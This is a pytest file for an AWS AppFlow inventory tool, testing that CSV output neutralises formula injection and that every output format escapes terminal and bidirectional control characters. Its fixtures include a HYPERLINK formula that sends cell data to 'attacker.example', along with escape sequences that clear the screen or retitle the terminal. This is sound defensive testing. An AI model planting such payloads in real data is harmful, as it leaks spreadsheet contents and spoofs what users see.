"""What AWS sends cannot become a spreadsheet formula or drive the terminal that shows it.

Profile names may start with `=`, `+`, `-` or `@` (AppFlow's name pattern allows them), and
AWS's free-text fields (a private connection's failure message) have no limit at all.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
from pathlib import Path

import pytest

from collector.simulator import (
    Account,
    Organization,
    Simulator,
    generate_organization,
    make_profile,
)

from ..support import Cli, fetch

REGIONS = ("us-east-1",)
FORMULA_NAMES = ("=1+2", "+1-1", "-2+3", "@SUM")
FAILURE = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
# A connector type outside today's enum passes botocore unvalidated, as AWS sends it.
HOSTILE_TYPE = "Slack\x1b[2J\x1b]0;owned\x07\nFAKE"
# C1 controls (CSI), bidirectional overrides and isolates, a line separator, DEL, a tab.
HOSTILE_TEXT = "failed\x9b2J\u202egnp.exe\u2066x\u2069\u2028forged\x7f\tend\r"
HOSTILE_LABEL = "label\x9b31m\u202eevil"
# Organizations' account Id, unchecked by botocore: it would be stored and shown as sent.
HOSTILE_ACCOUNT_ID = "12345678901\x1b[2J"
# Every control character an output may not hold raw (its lines end with "\n" alone).
RAW_CONTROL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


@pytest.fixture
def org() -> Organization:
    organization = generate_organization(
        seed=9, accounts=1, empty_fraction=1.0, profiles_per_scope=(1, 1), regions=REGIONS
    )
    account = organization.account_list()[0].id
    rng = random.Random(1)
    for name in FORMULA_NAMES:
        organization.put_profile(
            account, "us-east-1", make_profile("Slack", name, account, "us-east-1", rng)
        )
    organization.put_profile(
        account,
        "us-east-1",
        make_profile(
            "Snowflake",
            "private-wh",
            account,
            "us-east-1",
            rng,
            connectionMode="Private",
            privateConnectionProvisioningState={
                "status": "FAILED",
                "failureCause": "INTERNAL_SERVER",
                "failureMessage": FAILURE,
            },
        ),
    )
    organization.put_profile(
        account,
        "us-east-1",
        make_profile("Slack", "odd-type", account, "us-east-1", rng, connectorType=HOSTILE_TYPE),
    )
    organization.put_profile(
        account,
        "us-east-1",
        make_profile(
            "Snowflake",
            "hostile-text",
            account,
            "us-east-1",
            rng,
            connectorLabel=HOSTILE_LABEL,
            connectionMode="Private",
            privateConnectionProvisioningState={
                "status": "FAILED",
                "failureCause": HOSTILE_TEXT,
                "failureMessage": HOSTILE_TEXT,
            },
        ),
    )
    return organization


@pytest.fixture
def url(sim: Simulator, cli: Cli, tmp_path_factory: pytest.TempPathFactory) -> str:
    database = f"sqlite:///{tmp_path_factory.mktemp('safety') / 'inventory.db'}"
    result = cli.collect(database, sim, REGIONS)
    assert result.code == 0, result.err
    return database


def _cells(text: str, column: str) -> set[str]:
    return {row[column] for row in csv.DictReader(io.StringIO(text))}


@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["show", "--format", "csv"]])
def test_csv_cells_that_would_be_formulas_get_a_quote(
    command: list[str], url: str, cli: Cli
) -> None:
    """A CSV cell starting with = + - @ (or tab, CR) is written with a leading '."""
    result = cli.run([*command, "--database-url", url])
    assert result.code == 0, result.err
    names = _cells(result.out, "connector_profile_name")
    assert {"'" + name for name in FORMULA_NAMES} <= names
    assert not names & set(FORMULA_NAMES)
    if command[0] == "export":
        assert "'" + FAILURE in _cells(result.out, "private_connection_failure_message")


def test_csv_raw_writes_cells_as_stored(url: str, cli: Cli) -> None:
    """`--csv-raw` turns the neutralization off: every cell exactly as stored."""
    result = cli.run(["export", "--format", "csv", "--csv-raw", "--database-url", url])
    assert result.code == 0, result.err
    assert set(FORMULA_NAMES) <= _cells(result.out, "connector_profile_name")
    assert FAILURE in _cells(result.out, "private_connection_failure_message")


def test_json_keeps_values_as_stored(url: str, cli: Cli) -> None:
    """JSON output is not neutralized: JSON is no spreadsheet, and it escapes controls itself."""
    result = cli.run(["export", "--database-url", url])
    assert all(f'"connector_profile_name": "{name}"' in result.out for name in FORMULA_NAMES)
    assert "\x1b" not in result.out


def test_table_cells_escape_control_characters(url: str, cli: Cli) -> None:
    """A table shows control characters as escapes: no escape sequence, no extra line."""
    result = cli.run(["show", "--database-url", url])
    assert result.code == 0, result.err
    assert "\x1b" not in result.out
    assert "\x07" not in result.out
    assert "Slack\\x1b[2J\\x1b]0;owned\\x07\\nFAKE" in result.out
    assert not any(line.startswith("FAKE") for line in result.out.splitlines())
    assert len(result.out.splitlines()) == 1 + len(FORMULA_NAMES) + 3


def _hostile_arn(url: str) -> str:
    (row,) = fetch(
        url,
        "SELECT connector_profile_arn FROM connector_profiles "
        "WHERE connector_profile_name = 'hostile-text'",
    )
    return str(row["connector_profile_arn"])


def test_no_output_holds_a_raw_control_character(url: str, cli: Cli, tmp_path: Path) -> None:
    """C0, C1 and bidirectional controls from AWS reach no output raw: tables, CSV (to
    stdout and to a file), JSON and JSON lines of show, changes, history and export."""
    arn = _hostile_arn(url)
    outputs = []
    for fmt in ("table", "csv", "json"):
        outputs += [
            ["show", "--format", fmt],
            ["changes", "--since", "1d", "--format", fmt],
            ["history", arn, "--format", fmt],
        ]
    outputs += [["export", "--format", "csv"], ["export", "--format", "jsonl"]]
    for args in outputs:
        result = cli.run([*args, "--database-url", url])
        assert result.code == 0, (args, result.err)
        assert RAW_CONTROL.search(result.out) is None, (args, result.out)
        assert RAW_CONTROL.search(result.err) is None, (args, result.err)
        if args[0] != "history" or "json" in args:  # history's table and CSV: no snapshot
            assert "hostile-text" in result.out, args
    exported = tmp_path / "profiles.csv"
    result = cli.run(
        ["export", "--format", "csv", "--output", str(exported), "--database-url", url]
    )
    assert result.code == 0, result.err
    text = exported.read_text(encoding="utf-8")
    assert RAW_CONTROL.search(text) is None
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["connector_profile_arn"] == arn]
    assert row["private_connection_failure_message"] == (
        "failed\\x9b2J\\u202egnp.exe\\u2066x\\u2069\\u2028forged\\x7f\\tend\\r"
    )
    assert row["connector_label"] == "label\\x9b31m\\u202eevil"
    lines = cli.run(["export", "--format", "jsonl", "--database-url", url]).out.splitlines()
    (stored,) = [r for r in map(json.loads, lines) if r["connector_profile_arn"] == arn]
    assert stored["connector_label"] == HOSTILE_LABEL  # JSON escapes, and keeps the value


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_an_account_id_that_is_not_twelve_digits_is_refused(
    log_format: str, org: Organization, sim: Simulator, cli: Cli, tmp_path: Path
) -> None:
    """An account whose Organizations Id is not 12 digits is left out with one warning (its
    Id escaped), nothing of it is stored or assumed, and the other accounts are collected."""
    org.add_account(
        Account(HOSTILE_ACCOUNT_ID, "hostile\x1b]0;owned\x07", "x@example.com", org.root_id)
    )
    database = f"sqlite:///{tmp_path / 'inventory.db'}"
    result = cli.collect(database, sim, REGIONS, "--log-format", log_format)
    assert result.code == 0, result.err
    assert RAW_CONTROL.search(result.out + result.err) is None, result.err
    warnings = [line for line in result.err.splitlines() if "is not 12 digits" in line]
    assert len(warnings) == 1, result.err
    assert "12345678901" in warnings[0]
    stored = {r["account_id"] for r in fetch(database, "SELECT account_id FROM accounts")}
    assert stored == {a.id for a in org.account_list()} - {HOSTILE_ACCOUNT_ID}
    scopes = {r["account_id"] for r in fetch(database, "SELECT account_id FROM collection_scopes")}
    assert scopes == stored
    assert HOSTILE_ACCOUNT_ID not in {account for account, _ in sim.stats.scopes}
